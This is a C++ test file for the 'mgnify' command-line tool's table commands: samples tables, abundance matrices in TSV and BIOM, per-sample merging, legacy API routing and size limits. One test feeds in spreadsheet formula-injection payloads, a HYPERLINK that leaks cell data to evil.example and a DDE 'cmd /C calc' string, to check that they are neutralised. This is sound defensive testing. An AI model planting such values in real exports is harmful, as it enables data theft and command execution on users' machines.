      {"latitude", "51.50"},
      {"longitude", "-0"},
      {"ph", "7.50"},
      {"depth (m)", "1e3"},
      {"count", "123456789012345678901234567890"},
      {"precise", "0.12345678901234567890"},
      {"plain", "12"},
      {"none", ""},
      {"text", "1.50"}};
  for (const auto& [column, text] : cells) {
    CAPTURE(column);
    CHECK(lines[1].at(index_of(lines[0], column)) == text);
  }
}

/// The study's first sample with a hostile title and metadata value, served as its only sample.
void serve_formula_sample(const std::string& study_accession, json sample) {
  sample["sample_title"] = R"(=HYPERLINK("http://evil.example/?leak="&A2,"Click"))";
  sample["metadata"]["temperature"] = "@SUM(1+1)*cmd|' /C calc'!A0";
  sample["metadata"]["depth"] = "-12.5";
  const json page = {{"count", 1}, {"items", json::array({sample})}};
  tables_mock().push_fault(
      std::string(mgnify::mock::kV2Prefix) + "/studies/" + study_accession + "/samples/",
      mgnify::mock::Fault::status_only(200, page.dump()));
}

TEST_CASE("samples-table neutralises formulas in CSV and TSV unless --no-formula-guard",
          "[cli][tables][samples][formula]") {
  const auto& d = v2data::dataset();
  const auto& study = d.studies[2];
  const json sample = d.samples[static_cast<std::size_t>(study.samples[0])].with_metadata;

  serve_formula_sample(study.accession, sample);
  const auto csv = run_tables_cli({"samples-table", study.accession, "--format", "csv"});
  REQUIRE(csv.code == 0);
  CHECK(csv.out.find(R"x("'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")")x") !=
        std::string::npos);
  CHECK(csv.out.find(",'@SUM(1+1)*cmd|' /C calc'!A0") != std::string::npos);
  CHECK(csv.out.find(",-12.5") != std::string::npos);
  CHECK(csv.out.find(",'-12.5") == std::string::npos);

  serve_formula_sample(study.accession, sample);
  const auto tsv = run_tables_cli({"samples-table", study.accession, "--format", "tsv"});
  REQUIRE(tsv.code == 0);
  const auto rows = tsv_rows(tsv.out);
  REQUIRE(rows.size() == 2);
  CHECK(rows[1].at(index_of(rows[0], "temperature")) == "'@SUM(1+1)*cmd|' /C calc'!A0");
  CHECK(rows[1].at(index_of(rows[0], "depth")) == "-12.5");

  serve_formula_sample(study.accession, sample);
  const auto off =
      run_tables_cli({"--no-formula-guard", "samples-table", study.accession, "--format", "tsv"});
  REQUIRE(off.code == 0);
  const auto raw = tsv_rows(off.out);
  REQUIRE(raw.size() == 2);
  CHECK(raw[1].at(index_of(raw[0], "temperature")) == "@SUM(1+1)*cmd|' /C calc'!A0");
}

TEST_CASE("the table commands refuse options that would be dropped", "[cli][tables]") {
  const std::vector<std::vector<std::string>> cases = {
      {"--format", "tsv", "--columns", "accession", "samples-table", "MGYS00000002"},
      {"abundance-table", "MGYS00000002", "-p", "V6", "-g", "taxonomies.closed_reference.ssu",
       "--max", "2"},
      {"abundance-table", "MGYS00000002", "-p", "V6", "-g", "taxonomies.closed_reference.ssu",
       "--format", "ndjson"},
      {"abundance-table", "MGYS00000002", "-p", "V6", "-g", "taxonomies.closed_reference.ssu",
       "--per-sample", "first"}};
  for (const auto& args : cases) {
    tables_mock().clear_requests();
    const auto run = run_tables_cli(args);
    CHECK(run.code == 2);
    CHECK(run.out.empty());
    CHECK_THAT(run.err, Catch::StartsWith("mgnify: "));
    CHECK(tables_mock().requests().empty());  // refused before any request
  }
}

TEST_CASE("abundance-table in the other forms: v1 taxonomy as TSV, v2 taxonomy as BIOM",
          "[cli][tables][abundance][biom]") {
  // v1, pipeline 5.0: the SSU OTU tables of MGYS00000002's analyses.
  std::map<std::string, std::pair<std::string, std::uint64_t>> v1_named;
  std::vector<std::string> v1_analyses;
  for (std::size_t s = v1data::study_sample_begin(1); s < v1data::study_sample_end(1); ++s) {
    if (std::string(v1data::analysis_pipeline(s)) != "5.0") continue;
    v1_analyses.push_back(v1data::analysis_accession(s));
    v1_named[v1data::analysis_accession(s)] = {
        v1data::download_file(v1data::DownloadOwner::analysis, s, 1).alias,
        mgnify::mock::seed_of("v1/analysis/" + std::to_string(s) + "/1")};
  }
  TablesTempDir dir;
  const auto v1_run = run_tables_cli({"abundance-table", "--api", "v1", v1data::study_accession(1),
                                      "-p", "5.0", "-g", "taxonomic_analysis_ssu_rrna", "--dir",
                                      dir.path().string(), "--format", "tsv"});
  CHECK(v1_run.code == 0);
  CHECK(v1_run.err.empty());
  std::vector<std::string> header_analyses;
  const auto v1_rows = tsv_rows(v1_run.out);
  REQUIRE_FALSE(v1_rows.empty());
  for (const auto& cell : v1_rows[0]) {
    if (cell.rfind("MGYA", 0) == 0) header_analyses.push_back(cell);
  }
  std::sort(header_analyses.begin(), header_analyses.end());
  CHECK(header_analyses == v1_analyses);
  check_matrix_tsv(v1_run.out, expected_from(v1_named), header_analyses, "taxonomy");

  // v2: the same merge as BIOM, an OTU table whose rows carry their ranks.
  const auto files = v2_ssu_files("MGYS00000002");
  std::map<std::string, std::pair<std::string, std::uint64_t>> v2_named;
  for (const auto& [analysis, path] : files)
    v2_named[analysis] = {path.substr(path.rfind('/') + 1), mgnify::mock::seed_of("v2" + path)};
  const auto v2_run =
      run_tables_cli({"abundance-table", "MGYS00000002", "-p", "V6", "-g",
                      "taxonomies.closed_reference.ssu", "--dir", dir.path().string()});
  CHECK(v2_run.code == 0);
  CHECK(v2_run.err.empty());
  const json biom = json::parse(v2_run.out);
  CHECK(biom.at("type") == "OTU table");
  CHECK(biom.at("matrix_element_type") == "int");
  CHECK(biom.at("columns").size() == files.size());
  std::map<std::string, std::map<std::string, std::uint64_t>> got;
  for (const auto& cell : biom.at("data")) {
    const json& row = biom.at("rows").at(cell.at(0).get<std::size_t>());
    const std::string analysis = biom.at("columns").at(cell.at(1).get<std::size_t>()).at("id");
    got[row.at("id")][analysis] = cell.at(2).get<std::uint64_t>();
    const auto& ranks = row.at("metadata").at("taxonomy");
    std::string joined;
    for (std::size_t k = 0; k < ranks.size(); ++k)
      joined += (k ? ";" : "") + ranks[k].get<std::string>();
    CHECK(joined == row.at("id").get<std::string>());
  }
  CHECK(got == expected_from(v2_named));
}

TEST_CASE("samples-table as NDJSON: one object per line, in column order",
          "[cli][tables][samples]") {
  const auto run = run_tables_cli({"samples-table", "MGYS00000003", "--format", "ndjson"});
  CHECK(run.code == 0);
  CHECK(run.err.empty());
  const auto lines = mgnify::test::cli::ndjson_lines(run.out);
  CHECK(lines.size() == v2data::dataset().studies[2].samples.size());
  CHECK(run.out.rfind("{\"accession\":", 0) == 0);
}

TEST_CASE(
    "abundance-table on v2 fetches a pre-V6 file without a URL from API v1, or names the "
    "--api v1 command",
    "[cli][tables][abundance][legacy]") {
  // A v1 analysis whose first file is a GO summary table (as in the BIOM case above).
  std::size_t analysis_index = v1data::study_sample_end(1);
  for (std::size_t s = v1data::study_sample_begin(1); s < v1data::study_sample_end(1); ++s) {
    if (std::string(v1data::analysis_pipeline(s)) == "5.0") {
      analysis_index = s;
      break;
    }
  }
  REQUIRE(analysis_index < v1data::study_sample_end(1));
  const std::string analysis = v1data::analysis_accession(analysis_index);
  const auto go_file = v1data::download_file(v1data::DownloadOwner::analysis, analysis_index, 0);

  // As production imports a legacy analysis into v2: its v1 accession and its
  // files' v1 aliases, without URLs. The v2 mock answers this one request so.
  auto push_legacy_detail = [&](const std::string& alias) {
    json detail = json::parse(v2data::analysis_detail(0));
    json file = detail.at("downloads").at(0);
    file["alias"] = alias;
    file["url"] = nullptr;
    file["file_size_bytes"] = nullptr;
    file["download_group"] = "functional_annotation.go";
    file["file_type"] = "tsv";
    detail["accession"] = analysis;
    detail["pipeline_version"] = "V5";
    detail["downloads"] = json::array({file});
    mgnify::mock::Fault answer;
    answer.status = 200;
    answer.body = detail.dump();
    tables_mock().push_fault(std::string(mgnify::mock::kV2Prefix) + "/analyses/" + analysis,
                             answer);
  };

  TablesTempDir dir;
  const auto from_v1 = run_tables_cli({"abundance-table", "--api", "v1", analysis, "-p", "5.0",
                                       "-g", "Functional analysis", "--match", go_file.alias,
                                       "--dir", (dir.path() / "v1").string(), "--format", "tsv"});
  REQUIRE(from_v1.code == 0);
  REQUIRE(tsv_rows(from_v1.out).size() > 2);
  CHECK(tsv_rows(from_v1.out).at(0).back() == analysis);

  push_legacy_detail(go_file.alias);
  tables_mock().clear_requests();
  const auto routed =
      run_tables_cli({"abundance-table", analysis, "-p", "V5", "-g", "functional_annotation.go",
                      "--dir", (dir.path() / "v2").string(), "--format", "tsv"});
  CHECK(routed.code == 0);
  CHECK(routed.err ==
        "mgnify: note: 1 file without a URL on API v2 (pre-V6 results) fetched from API v1\n");
  // The same matrix as asking API v1 directly, from the file v1 serves.
  CHECK(routed.out == from_v1.out);
  bool fetched_from_v1 = false;
  for (const auto& r : tables_mock().requests()) {
    if (r.target.find(std::string(mgnify::mock::kV1Prefix) + "/analyses/" + analysis + "/file/" +
                      go_file.alias) != std::string::npos)
      fetched_from_v1 = true;
  }
  CHECK(fetched_from_v1);
  CHECK(fs::exists(dir.path() / "v2" / analysis / go_file.alias));

  // A file API v1 does not list either: the failure names the exact v1 command.
  push_legacy_detail("not_on_v1_GO.tsv");
  const auto unrouted =
      run_tables_cli({"abundance-table", analysis, "-p", "V5", "-g", "functional_annotation.go",
                      "--dir", (dir.path() / "v3").string(), "--format", "tsv"});
  CHECK(unrouted.code == 1);
  CHECK(unrouted.out.empty());
  CHECK(unrouted.err == "mgnify: " + analysis +
                            ": the service publishes no URL for not_on_v1_GO.tsv (a pre-V6 "
                            "result, and API v1 lists no file of that name for " +
                            analysis + "); try: mgnify abundance-table " + analysis +
                            " --api v1 -p V5 -g functional_analysis --dir " +
                            (dir.path() / "v3").string() + "\n");

  // API v1 failing to list the analysis's files is that failure, not "v1 lists no file".
  push_legacy_detail(go_file.alias);
  tables_mock().push_fault(
      std::string(mgnify::mock::kV1Prefix) + "/analyses/" + analysis + "/downloads",
      mgnify::mock::Fault::status_only(
          404, R"({"errors": [{"detail": "Not found.", "status": "404", "code": "not_found"}]})"));
  const auto lookup_failed =
      run_tables_cli({"abundance-table", analysis, "-p", "V5", "-g", "functional_annotation.go",
                      "--dir", (dir.path() / "v4").string(), "--format", "tsv"});
  CHECK(lookup_failed.code == 3);
  CHECK(lookup_failed.out.empty());
  CHECK(lookup_failed.err.rfind("mgnify: " + analysis + ": ", 0) == 0);
  CHECK(lookup_failed.err.find("/analyses/" + analysis + "/downloads") != std::string::npos);
  CHECK(lookup_failed.err.find("lists no file") == std::string::npos);
}

namespace {

/// The v2 study's V6 analyses (as v2_ssu_files picks them) and the sample each belongs to.
std::map<std::string, std::string> v2_samples_of(const std::string& study) {
  std::map<std::string, std::string> out;
  for (const auto& [analysis, path] : v2_ssu_files(study)) {
    const auto& d = v2data::dataset();
    for (const auto& a : d.analyses) {
      if (a.accession != analysis) continue;
      const json detail = json::parse(v2data::analysis_detail(a.index));
      out[analysis] = detail.at("sample").at("accession");
    }
  }
  return out;
}

/// The mock's counts of `study`'s V6 SSU files, by analysis.
Expected v2_ssu_expected(const std::string& study) {
  std::map<std::string, std::pair<std::string, std::uint64_t>> named;
  for (const auto& [analysis, path] : v2_ssu_files(study))
    named[analysis] = {path.substr(path.rfind('/') + 1), mgnify::mock::seed_of("v2" + path)};
  return expected_from(named);
}

/// `by_analysis` with the analyses of each sample summed, or (keep = "first") the
/// lowest accession's counts alone.
/// Each analysis's run, from the mock's analysis details.
std::map<std::string, std::string> v2_runs_of(const std::map<std::string, std::string>& sample_of) {
  std::map<std::string, std::string> out;
  const auto& d = v2data::dataset();
  for (const auto& a : d.analyses) {
    if (sample_of.count(a.accession) == 0) continue;
    const json detail = json::parse(v2data::analysis_detail(a.index));
    out[a.accession] = detail.at("run").at("accession");
  }
  return out;
}

/// The matrix by sample as the several-analyses rule makes it, worked out
/// here from the raw files: "first" keeps a sample's lowest accession;
/// "pool" keeps one analysis per run (all are V6 here: the highest
/// accession), counts a repeated file once, and sums the runs left.
Expected per_sample(const Expected& by_analysis,
                    const std::map<std::string, std::string>& sample_of, const std::string& keep) {
  std::set<std::string> used;
  if (keep == "first") {
    std::map<std::string, std::string> first;  // sample -> its lowest accession
    for (const auto& [analysis, sample] : sample_of) first.emplace(sample, analysis);
    for (const auto& [sample, analysis] : first) used.insert(analysis);
  } else {
    std::map<std::pair<std::string, std::string>, std::string> newest;  // (sample, run) -> analysis
    for (const auto& [analysis, run] : v2_runs_of(sample_of)) {
      auto& kept = newest[{sample_of.at(analysis), run}];
      if (kept < analysis) kept = analysis;
    }
    // A file that another kept analysis of the sample already brought is not added again.
    std::map<std::string, std::set<std::map<std::string, std::uint64_t>>> files_of;
    std::vector<std::string> candidates;
    for (const auto& [key, analysis] : newest) candidates.push_back(analysis);
    std::sort(candidates.rbegin(), candidates.rend());
    for (const auto& analysis : candidates) {
      std::map<std::string, std::uint64_t> file;
      for (const auto& [feature, counts] : by_analysis) {
        const auto it = counts.find(analysis);
        if (it != counts.end() && it->second != 0) file[feature] = it->second;
      }
      if (files_of[sample_of.at(analysis)].insert(file).second) used.insert(analysis);
    }
  }
  Expected out;
  for (const auto& [feature, counts] : by_analysis) {
    for (const auto& [analysis, count] : counts) {
      if (used.count(analysis) != 0) out[feature][sample_of.at(analysis)] += count;
    }
  }
  return out;
}

std::vector<std::string> header_samples(const std::string& out) {
  std::vector<std::string> samples;
  const auto rows = tsv_rows(out);
  for (const auto& cell : rows.at(0))
    if (cell.rfind("SAMEA", 0) == 0) samples.push_back(cell);
  return samples;
}

}  // namespace

TEST_CASE("abundance-table --by sample: one column per sample, a re-analysed run counted once",
          "[cli][tables][abundance][by_sample]") {
  const std::string study = "MGYS00000002";
  const auto sample_of = v2_samples_of(study);
  std::map<std::string, std::vector<std::string>> analyses_of;
  for (const auto& [analysis, sample] : sample_of) analyses_of[sample].push_back(analysis);
  std::size_t several = 0;
  for (const auto& [sample, analyses] : analyses_of) several += analyses.size() > 1;
  REQUIRE(several > 0);  // the mock's study has samples with several V6 analyses

  TablesTempDir dir;
  const auto run =
      run_tables_cli({"abundance-table", study, "-p", "V6", "-g", "taxonomies.closed_reference.ssu",
                      "--by", "sample", "--dir", dir.path().string(), "--format", "tsv"});
  CHECK(run.code == 0);
  const auto samples = header_samples(run.out);
  CHECK(std::set<std::string>(samples.begin(), samples.end()).size() == analyses_of.size());
  const Expected expected = per_sample(v2_ssu_expected(study), sample_of, "pool");
  check_matrix_tsv(run.out, expected, samples, "taxonomy");
  // Each sample's column is its run's file once, not once per analysis of
  // the run: the mock analysed every run five times, byte for byte the same.
  const auto runs = v2_runs_of(sample_of);
  const Expected raw = v2_ssu_expected(study);
  for (const auto& [sample, analyses] : analyses_of) {
    if (analyses.size() < 2) continue;
    std::set<std::string> runs_of_sample;
    for (const auto& a : analyses) runs_of_sample.insert(runs.at(a));
    REQUIRE(runs_of_sample.size() == 1);  // the re-analysed shape this test is about
    for (const auto& [feature, counts] : raw) {
      const auto newest = counts.find(analyses.back());
      if (newest == counts.end()) continue;
      INFO(sample << " " << feature);
      CHECK(expected.at(feature).at(sample) == newest->second);
    }
  }
  // One stderr line per sample with several analyses, naming each left out and why.
  for (const auto& [sample, analyses] : analyses_of) {
    if (analyses.size() < 2) continue;
    std::string names;
    for (const auto& a : analyses) names += (names.empty() ? "" : ", ") + a;
    std::string line = "mgnify: note: sample " + sample + " has " +
                       std::to_string(analyses.size()) + " analyses (" + names + "): used " +
                       analyses.back();
    for (std::size_t i = 0; i + 1 < analyses.size(); ++i)
      line +=
          "; left out " + analyses[i] + " (same run as " + analyses.back() + ", which is newer)";
    CHECK_THAT(run.err, Catch::Contains(line + " (--per-sample pool)\n"));
  }
  CHECK(std::count(run.err.begin(), run.err.end(), '\n') == static_cast<long>(several));

  // --per-sample first keeps each sample's lowest accession and names the others.
  const auto first = run_tables_cli(
      {"abundance-table", study, "-p", "V6", "-g", "taxonomies.closed_reference.ssu", "--by",
       "sample", "--per-sample", "first", "--dir", dir.path().string(), "--format", "tsv"});
  CHECK(first.code == 0);
  const Expected kept = per_sample(v2_ssu_expected(study), sample_of, "first");
  check_matrix_tsv(first.out, kept, header_samples(first.out), "taxonomy");
  const auto& [sample, analyses] = *std::find_if(analyses_of.begin(), analyses_of.end(),
                                                 [](const auto& s) { return s.second.size() > 1; });
  CHECK_THAT(first.err, Catch::Contains("mgnify: note: sample " + sample + " has " +
                                        std::to_string(analyses.size()) + " analyses (") &&
                            Catch::Contains("): used " + analyses.front() + "; left out " +
                                            analyses[1] + " (first is " + analyses.front() + ")"));
}

TEST_CASE(
    "abundance-table --by sample as BIOM: validated, and read alike by biom.load_table "
    "and phyloseq::import_biom",
    "[cli][tables][abundance][biom][readers]") {
  const std::string study = "MGYS00000002";
  TablesTempDir dir;
  const auto run =
      run_tables_cli({"abundance-table", study, "-p", "V6", "-g", "taxonomies.closed_reference.ssu",
                      "--by", "sample", "--dir", dir.path().string()});
  REQUIRE(run.code == 0);
  const auto biom = nlohmann::ordered_json::parse(run.out);
  const auto file = dir.path() / "matrix.biom";
  std::ofstream(file, std::ios::binary) << run.out;
  // The readers run first: a skip reported after checks would report their
  // failures as skipped too.
  const auto validation = mgnify::test::biom_readers::validate(file);
  const auto python = mgnify::test::biom_readers::read("python", file);
  const auto r = mgnify::test::biom_readers::read("r", file);
  if (!validation.installed) MGNIFY_SKIP_TEST("biom (python3-biom-format) is not installed");
  if (!python.installed)
    MGNIFY_SKIP_TEST("biom-format (python3-biom-format) is not installed for " MGNIFY_PYTHON3);
  if (!r.installed)
    MGNIFY_SKIP_TEST("Rscript with phyloseq and jsonlite (r-bioc-phyloseq) is not installed");
  const auto sample_of = v2_samples_of(study);
  const Expected expected = per_sample(v2_ssu_expected(study), sample_of, "pool");

  // The document itself: counts as the mock serves them, samples' fields as columns' metadata.
  std::map<std::string, std::map<std::string, std::uint64_t>> got;
  for (const auto& cell : biom.at("data")) {
    const std::string feature = biom.at("rows").at(cell.at(0).get<std::size_t>()).at("id");
    const std::string sample = biom.at("columns").at(cell.at(1).get<std::size_t>()).at("id");
    got[feature][sample] = cell.at(2).get<std::uint64_t>();
  }
  CHECK(got == expected);
  const auto& d = v2data::dataset();
  for (const auto& column : biom.at("columns")) {
    const auto& metadata = column.at("metadata");
    const std::string id = column.at("id");
    CHECK(metadata.at("sample_accession") == id);
    CHECK(metadata.at("study_accession") == study);
    CHECK(metadata.at("run_accession").get<std::string>().rfind("ERR", 0) == 0);
    const auto sample = std::find_if(d.samples.begin(), d.samples.end(),
                                     [&](const auto& s) { return s.accession == id; });
    REQUIRE(sample != d.samples.end());
    CHECK(metadata.at("sample_title") == sample->title);
    CHECK(metadata.at("temperature") ==
          sample->with_metadata["metadata"]["temperature"].get<std::string>());
    // Exactly the analyses whose counts are in the column: the newest of the run.
    std::string newest;
    for (const auto& [analysis, s] : sample_of)
      if (s == id) newest = analysis;
    CHECK(metadata.at("analysis_accession") == newest);
  }

  {
    INFO(validation.output);
    CHECK(validation.exit_code == 0);
  }
  mgnify::test::biom_readers::check(python.table, biom, "python");
  mgnify::test::biom_readers::check(r.table, biom, "r");
  // phyloseq's tax_table has the ranks of the lineage, in order.
  for (const auto& row : biom.at("rows"))
    CHECK(r.table.at("taxonomy").at(row.at("id").get<std::string>()) ==
          row.at("metadata").at("taxonomy"));
}

TEST_CASE("abundance-table of several studies: one matrix, union of features, zeros elsewhere",
          "[cli][tables][abundance][studies]") {
  // Two studies with V6 analyses (the mock's MGYS00000003 has pre-V6 ones only).
  const std::vector<std::string> studies = {"MGYS00000002", "MGYS00000004"};
  Expected expected;
  std::set<std::string> all_analyses;
  for (const auto& study : studies) {
    REQUIRE_FALSE(v2_ssu_files(study).empty());
    for (const auto& [feature, counts] : v2_ssu_expected(study)) {
      for (const auto& [analysis, count] : counts) {
        expected[feature][analysis] = count;
        all_analyses.insert(analysis);
      }
    }
    for (const auto& [analysis, path] : v2_ssu_files(study)) all_analyses.insert(analysis);
  }
  TablesTempDir dir;
  const auto run = run_tables_cli({"abundance-table", "--study", studies[0], "--study", studies[1],
                                   "-p", "V6", "-g", "taxonomies.closed_reference.ssu", "--dir",
                                   dir.path().string(), "--format", "tsv"});
  INFO(run.err);
  CHECK(run.code == 0);
  CHECK(run.err.empty());
  std::vector<std::string> analyses;
  const auto rows = tsv_rows(run.out);
  for (const auto& cell : rows.at(0))
    if (cell.rfind("MGYA", 0) == 0) analyses.push_back(cell);
  CHECK(std::set<std::string>(analyses.begin(), analyses.end()) == all_analyses);
  check_matrix_tsv(run.out, expected, analyses, "taxonomy");

  // A list file (comments, blank lines, a repeat) gives the same matrix.
  const auto list = dir.path() / "studies.txt";
  std::ofstream(list) << "# two studies\n"
                      << studies[0] << "\n\n  " << studies[1] << "  # the second\n"
                      << studies[0] << "\n";
  const auto from_file = run_tables_cli({"abundance-table", "--studies-file", list.string(), "-p",
                                         "V6", "-g", "taxonomies.closed_reference.ssu", "--dir",
                                         dir.path().string(), "--format", "tsv"});
  CHECK(from_file.code == 0);
  CHECK(from_file.out == run.out);

  // No study at all, or a malformed one, is refused before any request.
  tables_mock().clear_requests();
  const auto none = run_tables_cli(
      {"abundance-table", "-p", "V6", "-g", "taxonomies.closed_reference.ssu", "--format", "tsv"});
  CHECK(none.code == 2);
  const auto bad = run_tables_cli({"abundance-table", "--study", studies[0], "--study", "nope",
                                   "-p", "V6", "-g", "taxonomies.closed_reference.ssu"});
  CHECK(bad.code == 2);
  CHECK(tables_mock().requests().empty());
}

TEST_CASE(
    "samples-table past --max-columns or --max-cells fails naming the option, printing nothing",
    "[cli][tables][samples][limits]") {
  const auto full = run_tables_cli({"samples-table", "MGYS00000002", "--format", "tsv"});
  REQUIRE(full.code == 0);
  const auto rows = tsv_rows(full.out);
  REQUIRE(rows.size() > 1);
  const std::size_t columns = rows.front().size();
  const std::size_t cells = columns * (rows.size() - 1);

  const auto narrow = run_tables_cli({"samples-table", "MGYS00000002", "--format", "tsv",
                                      "--max-columns", std::to_string(columns - 1)});
  CHECK(narrow.code == 1);
  CHECK(narrow.out.empty());
  CHECK_THAT(narrow.err, Catch::Contains("more than --max-columns (" + std::to_string(columns - 1) +
                                         "); raise --max-columns to write it"));
  CHECK(std::count(narrow.err.begin(), narrow.err.end(), '\n') == 1);

  for (const std::string format : {"tsv", "json"}) {
    const auto small = run_tables_cli({"samples-table", "MGYS00000002", "--format", format,
                                       "--max-cells", std::to_string(cells - 1)});
    INFO(format);
    CHECK(small.code == 1);
    CHECK(small.out.empty());
    CHECK_THAT(small.err, Catch::Contains("the table would have " + std::to_string(cells) +
                                          " cells, more than --max-cells"));
  }
  // At the bound exactly, the table is written as without it.
  const auto exact =
      run_tables_cli({"samples-table", "MGYS00000002", "--format", "tsv", "--max-columns",
                      std::to_string(columns), "--max-cells", std::to_string(cells)});
  CHECK(exact.code == 0);
  CHECK(exact.out == full.out);
}
